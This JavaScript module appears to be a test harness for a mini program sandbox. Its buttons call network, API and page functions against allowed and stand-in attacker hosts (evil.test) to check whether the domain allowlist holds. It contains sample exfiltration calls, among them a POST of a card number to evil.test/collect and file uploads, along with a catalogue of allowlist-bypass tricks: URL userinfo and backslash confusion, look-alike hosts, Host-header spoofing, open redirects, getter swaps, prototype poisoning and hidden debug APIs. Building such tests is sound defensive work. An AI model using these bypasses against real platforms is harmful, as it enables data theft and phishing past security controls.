// @ts-check
/** Every button of the mini program: what it is called, what it says it does, and the call it makes. A row is a button. */

/** @typedef {"network" | "apis" | "pages" | "tricks" | "own"} Tab */
/** @typedef {(value: any) => void} Take */
/** @typedef {{ success: Take, fail: Take, callback: Take }} Tell */
/** @typedef {{ id: keyof typeof import("./words.js").words.en.calls, tab: Tab, shown: string, run(tell: Tell, list: HTMLElement): void }} Call */

/** @type {readonly Tab[]} */
export const tabs = ["network", "apis", "pages", "tricks", "own"];

// The globals are read when a button is pressed: whatever stands there then is what a guest can reach.
const my = () => /** @type {any} */ (window).my;
const bridge = () => /** @type {any} */ (window).AlipayJSBridge;

const file = { filePath: "https://resource/picture.png", fileName: "file", fileType: "image" };

/** @param {Call["id"]} id @param {Tab} tab @param {string} name a function of `my` that takes options @param {object} options @param {string} [shown] @returns {Call} */
const option = (id, tab, name, options, shown) => ({
  id, tab, shown: shown ?? `my.${name} ${/** @type {any} */ (options).url ?? ""}`.trim(),
  run: ({ success, fail }) => { my()[name]({ ...options, success, fail }); },
});

/** @param {Call["id"]} id @param {string} src @returns {Call} */
const view = (id, src) => ({ id, tab: "pages", shown: `<web-view src="${src}">`, run: (_, list) => { list.querySelector("web-view")?.setAttribute("src", src); } });

/** @type {readonly Call[]} */
export const calls = [
  option("requestListed", "network", "request", { url: "https://api.good.test/orders?id=7" }),
  option("requestUnlisted", "network", "request", { url: "https://evil.test/collect?card=4111", method: "POST", data: { card: "4111" } }),
  option("requestHttp", "network", "request", { url: "http://api.good.test/orders" }),
  option("httpRequest", "network", "httpRequest", { url: "https://api.good.test/legacy" }),
  option("uploadListed", "network", "uploadFile", { url: "https://api.good.test/upload", ...file }),
  option("uploadUnlisted", "network", "uploadFile", { url: "https://evil.test/upload", ...file }),
  option("downloadListed", "network", "downloadFile", { url: "https://img.cdn.good.test/files/prices.txt" }),
  option("downloadUnlisted", "network", "downloadFile", { url: "https://evil.test/files/malware.txt" }),
  option("socketListed", "network", "connectSocket", { url: "wss://api.good.test/live" }),
  option("socketUnlisted", "network", "connectSocket", { url: "wss://evil.test/live" }),

  option("official", "apis", "showToast", { content: "🛒 ✓" }, "my.showToast"),
  { id: "officialSync", tab: "apis", shown: "my.getSystemInfoSync()", run: ({ callback }) => callback(my().getSystemInfoSync()) },
  { id: "storage", tab: "apis", shown: "my.setStorage → my.getStorage", run: ({ success, fail }) => {
    my().setStorage({ key: "basket", data: ["apple", "tea"], fail, success: () => my().getStorage({ key: "basket", success, fail }) });
  } },
  { id: "custom", tab: "apis", shown: "my.call('tinyToNative')", run: ({ callback }) => my().call("tinyToNative", { amount: 12 }, callback) },
  { id: "customBridge", tab: "apis", shown: "AlipayJSBridge.call('tinyToNative')", run: ({ callback }) => bridge().call("tinyToNative", { amount: 12 }, callback) },
  { id: "hidden", tab: "apis", shown: "my.call('debugInstallPackage')", run: ({ callback }) => my().call("debugInstallPackage", {}, callback) },
  { id: "callListed", tab: "apis", shown: "my.call('request') https://api.good.test/by-name", run: ({ callback }) => my().call("request", { url: "https://api.good.test/by-name" }, callback) },
  { id: "callUnlisted", tab: "apis", shown: "my.call('httpRequest') https://evil.test/by-name", run: ({ callback }) => my().call("httpRequest", { url: "https://evil.test/by-name" }, callback) },
  { id: "bridgeUnlisted", tab: "apis", shown: "AlipayJSBridge.call('request') https://evil.test/by-bridge", run: ({ callback }) => bridge().call("request", { url: "https://evil.test/by-bridge" }, callback) },
  { id: "canIUse", tab: "apis", shown: "my.canIUse('request')", run: ({ callback }) => callback({ result: my().canIUse("request") }) },

  view("viewListed", "https://pages.good.test/page/terms"),
  view("viewUnlisted", "https://evil.test/page/win-a-prize"),
  view("viewHttp", "http://pages.good.test/page/terms"),
  { id: "viewMarkup", tab: "pages", shown: "innerHTML = '<web-view src=…evil.test…>'", run: (_, list) => {
    const old = list.querySelector("web-view");
    const holder = document.createElement("div");
    holder.innerHTML = '<web-view src="https://evil.test/page/markup"></web-view>';
    old?.replaceWith(/** @type {Element} */ (holder.firstChild));
  } },
  { id: "pushUnlisted", tab: "pages", shown: "AlipayJSBridge.call('pushWindow') https://evil.test/page/push", run: ({ callback }) => bridge().call("pushWindow", { url: "https://evil.test/page/push" }, callback) },
  option("ownPage", "pages", "navigateTo", { url: "/pages/help/help" }),

  option("trickCredentials", "tricks", "request", { url: "https://api.good.test@evil.test/" }),
  option("trickBackslash", "tricks", "request", { url: "https://evil.test\\@api.good.test/" }),
  option("trickLookAlike", "tricks", "request", { url: "https://api.good.test.evil.test/" }),
  option("trickTab", "tricks", "request", { url: "https://api.good.test\t.evil.test/" }, "my.request https://api.good.test⇥.evil.test/"),
  option("trickHost", "tricks", "request", { url: "https://api.good.test/fronted", headers: { Host: "evil.test" } }, "my.request … { headers: { Host: 'evil.test' } }"),
  option("trickRedirect", "tricks", "request", { url: "https://api.good.test/redirect?to=https://evil.test/redirected" }),
  { id: "trickGetter", tab: "tricks", shown: "my.request({ get url() { … } })", run: ({ success, fail }) => {
    let reads = 0;
    my().request({ get url() { return reads++ === 0 ? "https://api.good.test/getter" : "https://evil.test/getter"; }, success, fail });
  } },
  { id: "trickDelete", tab: "tricks", shown: "delete my.request; my.request(evil)", run: ({ success, fail }) => {
    try { delete my().request; } catch { /* a strict-mode refusal is an answer too */ }
    my().request({ url: "https://evil.test/deleted", success, fail });
  } },
  { id: "trickPoison", tab: "tricks", shown: "String.prototype… = () => 'api.good.test'", run: ({ success, fail }) => {
    const { indexOf, slice, toLowerCase } = String.prototype;
    const poisoned = { indexOf: () => 0, slice: () => "api.good.test", toLowerCase: () => "api.good.test" };
    Object.assign(String.prototype, poisoned);
    try { my().request({ url: "https://evil.test/poisoned", success, fail }); } finally { Object.assign(String.prototype, { indexOf, slice, toLowerCase }); }
  } },
  { id: "trickCase", tab: "tricks", shown: "my.call('DebugInstallPackage')", run: ({ callback }) => my().call("DebugInstallPackage", {}, callback) },
];
